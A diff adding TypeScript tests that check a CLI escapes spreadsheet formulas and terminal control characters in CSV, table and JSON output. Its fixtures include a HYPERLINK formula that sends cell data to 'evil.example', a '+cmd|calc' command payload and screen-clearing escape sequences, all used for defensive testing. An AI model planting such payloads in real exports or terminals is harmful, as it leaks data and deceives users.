@@ -1,0 +1,232 @@
+import assert from 'node:assert/strict';
+import { after, before, describe, it } from 'node:test';
+import { openDatabase } from '../../src/db/connect.ts';
+import { renderRows } from '../../src/cli/output.ts';
+import { cli as runCli, type CliResult } from '../helpers/cli.ts';
+import { testConfig, testEnv } from '../helpers/config.ts';
+import { createTestDatabase, type TestDatabase, testDatabaseKind } from '../helpers/database.ts';
+
+/** Characters a spreadsheet reads as the start of a formula (OWASP "CSV injection"). */
+const FORMULA_START = /^[=+\-@\t\r\0]/;
+/** Control characters a terminal acts on; a line break is the output's own. */
+// eslint-disable-next-line no-control-regex
+const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;
+
+/** The cells of an RFC 4180 document (quoted fields unquoted), line by line. */
+function csvCells(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let index = 0; index < text.length; index += 1) {
+    const char = text[index]!;
+    if (quoted) {
+      if (char === '"' && text[index + 1] === '"') {
+        cell += '"';
+        index += 1;
+      } else if (char === '"') quoted = false;
+      else cell += char;
+    } else if (char === '"') quoted = true;
+    else if (char === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (char === '\r' && text[index + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      index += 1;
+    } else cell += char;
+  }
+  return rows;
+}
+
+/** The cells of `column` below the header. */
+function column(text: string, header: string): string[] {
+  const [headers, ...rows] = csvCells(text);
+  const index = headers!.indexOf(header);
+  assert.notEqual(index, -1, `no column ${header} in ${text}`);
+  return rows.map((row) => row[index]!);
+}
+
+describe(`aa-oidc output: spreadsheet formulas and terminal control characters (${testDatabaseKind})`, () => {
+  let database: TestDatabase;
+  const password = 'Tr0ub4dor & 3 horses';
+  const formulaApp = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+  // C1 controls pass the application name's check (it refuses C0 and DEL): CSI 2 J clears the
+  // screen, OSC … ST sets the window title.
+  const controlApp = 'Wiki\u009b2J\u009d0;pwned\u009c';
+  const escGroup = 'Evil\u001b]0;pwned\u0007\u001b[2J';
+  const auditNote = 'left\u001b[31m the corp\u009b0m';
+
+  function cli(args: string[], stdin = ''): Promise<CliResult> {
+    return runCli(args, testEnv(database), { stdin });
+  }
+
+  async function ok(args: string[], stdin = ''): Promise<string> {
+    const result = await cli(args, stdin);
+    assert.equal(result.code, 0, `aa-oidc ${args.join(' ')} failed: ${result.stderr}`);
+    return result.stdout;
+  }
+
+  before(async () => {
+    database = await createTestDatabase({ migrated: true });
+    await ok(['state', 'create', '=1+1', '--priority=-5']);
+    await ok(['group', 'create', '+cmd|calc']);
+    await ok(
+      ['user', 'create', '--state', '=1+1', '--group', '+cmd|calc', '--password-stdin', '--', '-2+3'],
+      `${password}\n`,
+    );
+    await ok([
+      'app',
+      'create',
+      '--name',
+      formulaApp,
+      '--client-id',
+      'formula-app',
+      '--redirect-uri',
+      'https://formula.example.org/cb',
+    ]);
+    // A name the validation refuses, as Alliance Auth, an older release or a hand edit may leave it.
+    const handle = openDatabase(testConfig(database).database);
+    try {
+      await handle.db
+        .insertInto('auth_group')
+        .values({ name: escGroup, name_key: escGroup.toLowerCase(), oidc_access: 0, created_at: Date.now() })
+        .execute();
+      const time = Date.now();
+      await handle.db
+        .insertInto('audit_event')
+        .values({
+          recorded_at: time,
+          kind: 'token_revoked',
+          user_id: null,
+          client_id: 'formula-app',
+          request_id: null,
+          payload: JSON.stringify({
+            time: new Date(time).toISOString(),
+            kind: 'token_revoked',
+            token_type: 'access_token',
+            reason: 'user_revoked',
+            note: auditNote,
+          }),
+        })
+        .execute();
+    } finally {
+      await handle.close();
+    }
+  });
+  after(() => database?.drop());
+
+  it('quotes CSV cells a spreadsheet would run as formulas, in every listing, and leaves its own numbers alone', async () => {
+    const states = await ok(['state', 'list', '--format', 'csv']);
+    assert.deepEqual(column(states, 'name'), ["'=1+1"]);
+    assert.deepEqual(column(states, 'priority'), ['-5'], 'a negative priority stays a number');
+    assert.match(states, /^"'=1\+1",-5,/m);
+    assert.deepEqual(column(await ok(['group', 'list', '--format', 'csv']), 'name').sort(), [
+      "'+cmd|calc",
+      'Evil\\x1b]0;pwned\\x07\\x1b[2J',
+    ]);
+    const users = await ok(['user', 'list', '--format', 'csv']);
+    assert.deepEqual(column(users, 'username'), ["'-2+3"]);
+    assert.deepEqual(column(users, 'state'), ["'=1+1"]);
+    assert.deepEqual(column(users, 'groups'), ["'+cmd|calc"]);
+    const apps = await ok(['app', 'list', '--format', 'csv']);
+    assert.deepEqual(column(apps, 'name'), [`'${formulaApp}`]);
+    assert.match(apps, /,"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""click""\)",/);
+    assert.deepEqual(column(await ok(['app', 'show', 'formula-app', '--format', 'csv']), 'name'), [
+      `'${formulaApp}`,
+    ]);
+    const policy = await ok(['policy', 'show', 'formula-app', '--username=-2+3', '--format', 'csv']);
+    assert.deepEqual(column(policy, 'username'), ["'-2+3"]);
+    assert.deepEqual(column(policy, 'user_state'), ["'=1+1"]);
+    const bcl = await cli(['bcl', 'test', 'formula-app', '--format', 'csv']);
+    assert.equal(bcl.code, 1, 'the application has no back-channel logout URI');
+    assert.deepEqual(column(bcl.stdout, 'name'), [`'${formulaApp}`]);
+    const audit = await ok(['audit', 'list', '--format', 'csv']);
+    assert.ok(column(audit, 'user_id').every((cell) => cell === '' || /^\d+$/.test(cell)));
+
+    for (const [name, text] of Object.entries({ states, users, apps, policy, bcl: bcl.stdout, audit })) {
+      for (const cell of csvCells(text).flat())
+        assert.ok(!FORMULA_START.test(cell) || /^-?\d+$/.test(cell), `${name}: ${JSON.stringify(cell)}`);
+    }
+
+    // TAB, CR and NUL cannot get into a name through aa-oidc, but a row from elsewhere may hold one.
+    const rows = ['\tcmd', '\rcmd', '\0cmd', '@SUM(1)', 'plain', '-'];
+    assert.equal(
+      renderRows(rows, [{ header: 'name', value: (row) => row }], 'csv', (row) => row),
+      'name\r\n"\'\\tcmd"\r\n"\'\\rcmd"\r\n"\'\\x00cmd"\r\n"\'@SUM(1)"\r\nplain\r\n"\'-"\r\n',
+    );
+  });
+
+  it('shows control characters from the database escaped in tables, lines, CSV and errors, and keeps JSON exact', async () => {
+    const handle = openDatabase(testConfig(database).database);
+    try {
+      const user = await handle.db
+        .selectFrom('app_user')
+        .select('id')
+        .where('username', '=', '-2+3')
+        .executeTakeFirstOrThrow();
+      const group = await handle.db
+        .selectFrom('auth_group')
+        .select('id')
+        .where('name', '=', escGroup)
+        .executeTakeFirstOrThrow();
+      await handle.db.insertInto('user_group').values({ user_id: user.id, group_id: group.id }).execute();
+    } finally {
+      await handle.close();
+    }
+    const created = await ok([
+      'app',
+      'create',
+      '--name',
+      controlApp,
+      '--client-id',
+      'control-app',
+      '--redirect-uri',
+      'https://wiki.example.org/cb',
+    ]);
+    const outputs: Record<string, string> = {
+      created,
+      list: await ok(['app', 'list']),
+      show: await ok(['app', 'show', 'control-app']),
+      groups: await ok(['group', 'list']),
+      groupsCsv: await ok(['group', 'list', '--format', 'csv']).then((text) => text.replaceAll('\r\n', '\n')),
+      appsCsv: await ok(['app', 'list', '--format', 'csv']).then((text) => text.replaceAll('\r\n', '\n')),
+      audit: await ok(['audit', 'list']),
+      auditCsv: await ok(['audit', 'list', '--format', 'csv']).then((text) => text.replaceAll('\r\n', '\n')),
+      bcl: (await cli(['bcl', 'test', 'control-app'])).stdout,
+      user: await ok(['user', 'show', '--', '-2+3']),
+      deleteDryRun: await ok(['user', 'delete', '--dry-run', '--', '-2+3']),
+      policy: await ok(['policy', 'show', 'control-app', '--username=-2+3']),
+    };
+    const escapedApp = 'Wiki\\u009b2J\\u009d0;pwned\\u009c';
+    assert.match(created, /^created application "Wiki\\u009b2J\\u009d0;pwned\\u009c"$/m);
+    assert.ok(outputs.list!.includes(escapedApp), outputs.list);
+    assert.ok(outputs.show!.includes(escapedApp), outputs.show);
+    assert.ok(outputs.appsCsv!.includes(escapedApp), outputs.appsCsv);
+    assert.ok(outputs.bcl!.includes(escapedApp), outputs.bcl);
+    assert.ok(outputs.audit!.includes(`application ${escapedApp} created`), outputs.audit);
+    assert.ok(outputs.audit!.includes('(left\\x1b[31m the corp\\u009b0m)'), outputs.audit);
+    assert.ok(outputs.groups!.includes('Evil\\x1b]0;pwned\\x07\\x1b[2J'), outputs.groups);
+    assert.ok(outputs.groupsCsv!.includes('Evil\\x1b]0;pwned\\x07\\x1b[2J'), outputs.groupsCsv);
+    for (const name of ['user', 'deleteDryRun', 'policy'])
+      assert.ok(outputs[name]!.includes('Evil\\x1b]0;pwned\\x07\\x1b[2J'), outputs[name]);
+    for (const [name, text] of Object.entries(outputs))
+      assert.doesNotMatch(text, RAW_CONTROL, `${name}: ${JSON.stringify(text)}`);
+
+    // JSON: the same value, every control character a JSON escape.
+    const json = await ok(['app', 'show', 'control-app', '--format', 'json']);
+    assert.doesNotMatch(json, RAW_CONTROL);
+    assert.equal((JSON.parse(json) as { name: string }).name, controlApp);
+    const groupsJson = await ok(['group', 'list', '--format', 'json']);
+    assert.doesNotMatch(groupsJson, RAW_CONTROL);
+    assert.ok((JSON.parse(groupsJson) as Array<{ name: string }>).some((group) => group.name === escGroup));
+
+    // A failure that names what it was given.
+    const missing = await cli(['app', 'show', 'nope\u009b2J']);
+    assert.equal(missing.code, 1);
+    assert.match(missing.stderr, /nope\\u009b2J/);
+    assert.doesNotMatch(missing.stderr, RAW_CONTROL);
+  });
+});
